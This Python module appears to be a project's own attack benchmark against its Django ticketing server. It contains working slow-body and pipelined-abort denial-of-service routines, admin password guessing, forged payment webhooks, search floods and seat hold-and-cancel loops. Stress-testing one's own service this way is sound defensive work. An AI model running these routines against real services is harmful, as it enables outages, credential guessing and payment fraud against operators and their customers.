"""Attacks by HTTP: on Django's threads, and on what costs or writes. The server is bare: no proxy is in front."""

from __future__ import annotations

import asyncio
import itertools
import json
import secrets
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from urllib.parse import urlencode

from apps.orders.order_ids import new_order_id
from bench.attacks.target import CODE, STILL_OPEN, Account, Answers, Effort, Target
from bench.attacks.wire import Connection, request

SLOW, ASKING = 40, 16  # connections
PIPELINED = 4
BODY_BYTES = 1_000  # that are promised
JSON = "Content-Type: application/json"
FORM = "Content-Type: application/x-www-form-urlencoded"
BIG = "/api/schema"


async def send_slowly(target: Target, effort: Effort) -> Answers:
    """Log in with bodies that come by a byte a second, on more connections than Django has threads."""
    answers: Answers = Counter()
    ends_at, clock = effort.ends_at(), asyncio.get_running_loop().time
    head = request("POST", "/api/auth/login", target.forwarded, JSON, length=BODY_BYTES)

    async def trickle(connection: Connection) -> None:
        with suppress(OSError):
            while True:
                await asyncio.sleep(1)
                connection.writer.write(b" ")
                await connection.writer.drain()

    async def send(_number: int) -> None:
        while clock() < ends_at:
            connection = await Connection.open(target.address)
            connection.writer.write(head + b"{")
            trickling = asyncio.ensure_future(trickle(connection))
            try:
                async with asyncio.timeout_at(ends_at):
                    answers[str((await connection.answer()).status)] += 1
            except TimeoutError:
                answers[STILL_OPEN] += 1
            except (OSError, EOFError):
                answers["closed"] += 1
            trickling.cancel()
            connection.close()

    await asyncio.gather(*map(send, range(effort.of(SLOW))))
    return answers


async def ask_and_go(target: Target, effort: Effort) -> Answers:
    """Send several requests at once, the last of them without its body, and go away before any answer."""
    answers: Answers = Counter()
    ends_at, clock = effort.ends_at(), asyncio.get_running_loop().time
    unfinished = request("POST", "/api/auth/login", target.forwarded, JSON, body=b"{", length=BODY_BYTES)
    together = request("GET", BIG, target.forwarded) * PIPELINED + unfinished

    async def ask(_number: int) -> None:
        while clock() < ends_at:
            connection = await Connection.open(target.address)
            connection.writer.write(together)
            await connection.writer.drain()
            connection.close()
            answers["gone"] += 1

    await asyncio.gather(*map(ask, range(effort.of(SLOW))))
    return answers


async def read_schema(target: Target, effort: Effort) -> Answers:
    """Read the API's document again and again, whole, packed and not, as nobody."""
    packed = request("GET", BIG, target.forwarded, "Accept-Encoding: gzip")
    plain = request("GET", f"{BIG}?format=json", target.forwarded)
    return await _ask(target, effort, lambda number: packed if number % 2 else plain)


async def log_in_to_admin(target: Target, effort: Effort) -> Answers:
    """Try passwords by the admin's form, each time of another account."""
    csrf = "a" * 32
    headers = (target.forwarded, FORM, f"Cookie: csrftoken={csrf}", "Accept: text/html")

    def attempt(number: int) -> bytes:
        form = {"csrfmiddlewaretoken": csrf, "username": f"root{number}@example.com", "password": "guessed"}
        return request("POST", "/admin/login/?next=/admin/", *headers, body=urlencode(form).encode())

    return await _ask(target, effort, attempt)


async def send_webhooks(target: Target, effort: Effort) -> Answers:
    """Tell of payments for orders that do not exist."""

    def message(_number: int) -> bytes:
        data = {"orderId": new_order_id(target.performance_id), "status": "DONE"}
        body = json.dumps({"eventType": "PAYMENT_STATUS_CHANGED", "data": data}).encode()
        return request("POST", "/api/payments/webhooks/toss", target.forwarded, JSON, body=body)

    return await _ask(target, effort, message)


async def search(target: Target, effort: Effort) -> Answers:
    """Search for something else each time, as nobody."""
    return await _ask(
        target, effort, lambda _number: request("GET", f"/api/concerts?q={secrets.token_hex(8)}", target.forwarded)
    )


async def hold_and_let_go(target: Target, effort: Effort) -> Answers:
    """Order the same seats, hold them and cancel, again and again, by a few accounts."""
    answers: Answers = Counter()
    ends_at, clock = effort.ends_at(), asyncio.get_running_loop().time

    async def turn(account: Account, seat_id: int) -> None:
        connection = await Connection.open(target.address)
        headers = (target.forwarded, JSON, f"Authorization: Bearer {account.token}")
        wanted = json.dumps({"performance_id": target.performance_id, "seat_ids": [seat_id]}).encode()

        async def ask(path: str, body: bytes = b"{}") -> bytes:
            answer = await connection.ask(request("POST", path, *headers, body=body))
            answers[_label(answer.status, answer.body)] += 1
            return answer.body if answer.status < 400 else b""

        while clock() < ends_at:
            if placed := await ask("/api/orders", wanted):
                order = f"/api/orders/{json.loads(placed)['id']}"
                await ask(f"{order}/reserve")
                await ask(f"{order}/cancel")
        connection.close()

    pairs = zip(target.accounts[: effort.of(4)], target.seat_ids, strict=False)
    await asyncio.gather(*(turn(account, seat_id) for account, seat_id in pairs))
    return answers


async def _ask(target: Target, effort: Effort, make: Callable[[int], bytes]) -> Answers:
    """Ask on some connections as fast as answers come; `make` gives the n-th request."""
    answers: Answers = Counter()
    numbers, ends_at, clock = itertools.count(), effort.ends_at(), asyncio.get_running_loop().time

    async def ask(_number: int) -> None:
        connection = await Connection.open(target.address)
        while clock() < ends_at:
            try:
                answer = await connection.ask(make(next(numbers)))
            except (OSError, EOFError):
                answers["closed"] += 1
                connection = await Connection.open(target.address)
                continue
            answers[_label(answer.status, answer.body)] += 1
        connection.close()

    await asyncio.gather(*map(ask, range(effort.of(ASKING))))
    return answers


def _label(status: int, body: bytes) -> str:
    code = CODE.search(body) if status >= 400 else None
    return f"{status} {code[1].decode()}" if code else str(status)
